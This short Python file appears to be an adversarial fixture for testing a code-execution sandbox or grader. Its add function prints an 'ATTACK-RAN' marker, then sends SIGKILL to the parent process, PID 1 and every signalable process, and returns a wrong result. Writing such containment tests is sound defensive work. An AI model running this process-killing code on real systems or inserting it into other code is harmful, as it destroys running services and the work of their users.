"""Kill the parent and every process it can signal.
base: stub
expect: add\(2, 3\) is wrong|killed
"""
import os
import signal


def add(a, b):
    print("ATTACK-RAN", "kill_the_parent", sep=":", flush=True)  # the proof that it ran, before anything can silence it
    for pid in (os.getppid(), 1, -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return 0
